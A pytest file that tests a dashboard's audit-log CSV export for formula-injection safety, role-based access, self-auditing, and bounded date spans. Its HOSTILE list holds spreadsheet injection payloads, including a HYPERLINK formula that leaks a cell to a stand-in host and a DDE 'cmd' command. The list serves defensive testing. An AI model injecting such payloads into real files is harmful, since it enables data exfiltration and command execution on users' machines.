"""The audit as a file that a spreadsheet opens: literal, whole, bounded, and itself in the audit."""

import asyncio
import csv
import io

import pytest
from starlette.exceptions import HTTPException
from starlette.responses import StreamingResponse

from dashboard.audit_export import COLUMNS, exported
from layouts.wording import desk_words_in
from street.clock import now_us
from street.people import Actor, Role
from street.store import Entry
from tests.dashboard.conftest import Signed, Written, started
from tests.dashboard.desk_office import Desk, asked_by

HOSTILE = [
    "=1+1", "+1", "-1", "@SUM(A1)", "\t=1", "\r=1", "＝1+1", '",=1+1',
    '=HYPERLINK("http://e/?"&A1)', "=cmd|'/c calc'!A1",
]  # fmt: skip
AWKWARD = ["two\nlines", 'a "quoted" word', "comma, inside", "para\u2028graph", "lone\rreturn", "\ufeffbom", "中文"]


async def read(answer: object) -> str:
    """Return the whole file."""
    assert isinstance(answer, StreamingResponse)
    return "".join([bytes(part).decode() async for part in answer.body_iterator])


def entries(reasons: list[str]) -> list[Entry]:
    """Return one entry for each reason."""
    by = Actor("p", "lina", "10.0.0.7")
    return [Entry(now_us(), "person.change", "person/x", "done", by, reason=reason) for reason in reasons]


def table(street: Written, who: Signed, query: str = "?action=person.change") -> list[list[str]]:
    """Return the rows that the server's file has, read as a spreadsheet does."""
    serving = started(street.config)
    try:
        answer = serving.browser(who).get(f"/desk/audit.csv{query}")
        assert answer.status_code == 200
        assert answer.headers["content-type"] == "text/csv; charset=utf-8"
        assert answer.content.startswith(b"\xef\xbb\xbf")
        return list(csv.reader(io.StringIO(answer.content.decode("utf-8-sig"), newline="")))
    finally:
        serving.stop()


def test_no_cell_ever_runs_and_every_text_comes_back(street: Written) -> None:
    """A formula gets an apostrophe in front; everything else round-trips as it was written."""
    street.store.audit().add(entries(HOSTILE + AWKWARD))
    rows = table(street, street.sign_in(Role.AUDITOR))
    reasons = [row[COLUMNS.index("reason")] for row in rows[1:-1]][::-1]

    kept = [entry.entry.reason for entry in street.store.audit().find(action="person.change")][::-1]
    assert reasons[: len(HOSTILE)] == [f"'{reason}" for reason in kept[: len(HOSTILE)]]
    assert [reason.removeprefix("'") for reason in reasons] == kept
    assert rows[0] == [desk_words_in("zh")[name] for name in COLUMNS]
    assert all(row[0].isdigit() for row in rows[1:-1])


def test_the_last_line_says_who_took_it_and_the_audit_does_too(street: Written) -> None:
    """A file that leaks can be traced; in the language that was asked for."""
    street.store.audit().add(entries(["a", "b"]))
    auditor = street.sign_in(Role.AUDITOR)
    rows = table(street, auditor, "?action=person.change&lang=en")

    assert rows[-1][0].startswith(f"Exported by {auditor.person.login} · ")
    assert rows[-1][0].endswith("· 2 entries")
    newest = street.store.audit().find(limit=1)[0].entry
    assert (newest.action, newest.by.login, newest.reason) == (
        "audit.export", auditor.person.login, "action=person.change"
    )  # fmt: skip


@pytest.mark.parametrize("role", [role for role in Role if role is not Role.AUDITOR])
def test_nobody_else_takes_it(street: Written, role: Role) -> None:
    """Not by its address, and not by the function behind it."""
    desk = Desk(street)

    with asked_by(street.sign_in(role)), pytest.raises(HTTPException) as refused:
        exported(desk.office, "", "zh")

    assert refused.value.status_code == 404
    assert "audit.export" not in [action for action, _, _ in desk.actions()]


@pytest.mark.parametrize(
    "query", ["from=2026-11-25&to=2026-11-23", "from=1900-01-01&to=2026-01-01", "from=soon", "to=2026-13-01"]
)
def test_a_span_that_is_none_is_refused(street: Written, query: str) -> None:
    """Backwards, a century, or a word: 422, and no file that looks like an answer."""
    desk = Desk(street)

    with asked_by(street.sign_in(Role.AUDITOR)), pytest.raises(HTTPException) as refused:
        exported(desk.office, query, "zh")

    assert refused.value.status_code == 422


async def _rows(desk: Desk, most: int) -> list[list[str]]:
    answer = exported(desk.office, "action=person.change", "en", most=most)
    return list(csv.reader(io.StringIO((await read(answer)).removeprefix("\ufeff"), newline="")))


@pytest.mark.parametrize(
    ("most", "count", "wanted"),
    [(600, 600, "600 entries"), (599, 599, "only the first 599"), (5, 5, "only the first 5")],
    ids=["just fits", "one too many", "far too many"],
)
def test_a_file_has_an_end_and_says_so(street: Written, most: int, count: int, wanted: str) -> None:
    """More than fits is not silently cut."""
    desk = Desk(street)
    street.store.audit().add(entries([f"n{number}" for number in range(600)]))

    with asked_by(street.sign_in(Role.AUDITOR)):
        rows = asyncio.run(_rows(desk, most))

    assert len(rows) == count + 2
    assert wanted in rows[-1][0]


def test_an_empty_span_is_a_file_with_a_heading(street: Written) -> None:
    """Nothing found is an answer."""
    rows = table(street, street.sign_in(Role.AUDITOR), "?actor=nobody")

    assert len(rows) == 2
    assert "0 条" in rows[-1][0]
